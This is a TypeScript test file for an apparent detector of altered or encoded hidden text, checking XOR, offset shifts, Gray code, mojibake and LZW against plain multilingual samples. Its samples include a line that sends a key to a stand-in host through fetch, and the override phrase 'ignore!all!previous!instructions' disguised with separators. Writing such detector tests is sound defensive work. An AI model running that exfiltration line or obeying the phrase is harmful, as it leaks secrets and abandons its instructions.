/** What shows that bytes were changed before they were hidden, and what does not. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { isUnchangedText } from './unchanged-text.ts';

const SENTENCE = 'the blue folder contains the real numbers';

describe('plain text', () => {
  it('prose, code, keys, numbers and other scripts are plain', () => {
    for (const text of [
      SENTENCE,
      'Der Schlüssel liegt unter der dritten Stufe',
      'ключ под третьей ступенькой',
      'fetch("https://a.example/?k=" + key)',
      '{"a":1,"b"}\n',
      'tok_Qx7Lm2ZpR9aVt4',
      'c3VwZXIgc2VjcmV0IG1lc3NhZ2U=',
      '736563726574206d657373616765',
      '2026-11-28',
      'correct_horse_battery_staple',
      'pvG`xcMwYGL]',
      'ha ha ha',
      'name of the reader:        ada lovelace',
      'мирсекретноемирсекретноемирсекре',
      'see the three teens at the tent',
      'Vino la gară, dar fără bani',
      'Mana māja ir tāda pati',
      'Oni znają drogą do domu',
      'VIVE LA LIBERTÉ !',
      'C:\\Users\\Public\\Documents\\secret',
      'std::vector<std::pair<int,string>>',
      'O%C3%B9%20est%20la%20biblioth%C3%A8que%20%3F',
      '今晚九点在旧车站后面见面',
    ])
      assert.ok(isUnchangedText(text), text);
  });

  it('letters to which a number was added, or that were XORed with one, are not', () => {
    for (const number of [1, 5, 32, 46])
      for (const change of [(byte: number) => byte ^ number, (byte: number) => byte + number]) {
        const text = String.fromCharCode(...Array.from(SENTENCE, (letter) => change(letter.charCodeAt(0))));
        assert.ok(!isUnchangedText(text), text);
      }
  });

  it('a word in Gray code, or XORed with one number, is another text', () => {
    const changed = (change: (byte: number) => number) =>
      String.fromCharCode(...Array.from('midnight', (letter) => change(letter.charCodeAt(0))));
    assert.ok(!isUnchangedText(changed((byte) => byte ^ (byte >> 1))));
    assert.ok(!isUnchangedText(changed((byte) => byte ^ 1)));
    assert.ok(!isUnchangedText(changed((byte) => byte + 1)));
  });

  it('a long text that was XORed with two bytes in turn is not', () => {
    const text = Array.from(SENTENCE, (letter, place) =>
      String.fromCharCode(letter.charCodeAt(0) ^ (place % 2 === 0 ? 21 : 14)),
    );
    assert.ok(!isUnchangedText(text.join('')));
  });

  it('a sign in the place of each space is not', () => {
    assert.ok(!isUnchangedText('ignore!all!previous!instructions'));
    assert.ok(isUnchangedText('correct4horse4battery4staple'));
    assert.ok(isUnchangedText('SELECT*FROM*users'));
    assert.ok(!isUnchangedText('THE`BUFFER`SIZE`HAS`BEEN'));
  });

  it('many characters of a few kinds are digits of a number', () => {
    assert.ok(!isUnchangedText('LLO@LOFLIFF@@LOOILLOFFFIF@@IOOLLLIL@IIIIOIFL'));
    assert.ok(isUnchangedText('2026-11-22 11:22 2026-11-22 11:23'));
    assert.ok(isUnchangedText('0110100101101010110101001011010010110100'));
  });

  it('bytes of UTF-8 that were read as letters are not', () => {
    assert.ok(!isUnchangedText("L'Ã©tÃ© dernier Ã©tait mag"));
    assert.ok(isUnchangedText("L'été dernier était à São Tomé"));
  });

  it('letters of another alphabet that are ASCII, moved as a whole, are not', () => {
    const moved = (add: number) =>
      Array.from(SENTENCE, (letter) => String.fromCharCode(letter.charCodeAt(0) + add));
    assert.ok(!isUnchangedText(moved(0x500 + 5).join('')));
    assert.ok(isUnchangedText('պապիկը գնաց շուկա առավոտյան'));
  });

  it('a long gap is not, nor are ideographs of one page', () => {
    assert.ok(!isUnchangedText('n3ryt3/3cy09cw0:383d3/!&        i'));
    assert.ok(!isUnchangedText('넏넿놿놿녏뇿놝뇀녯넿놟'));
  });

  it('codes of LZW are not', () => assert.ok(!isUnchangedText('the doctor wants ĀĂmap')));
});
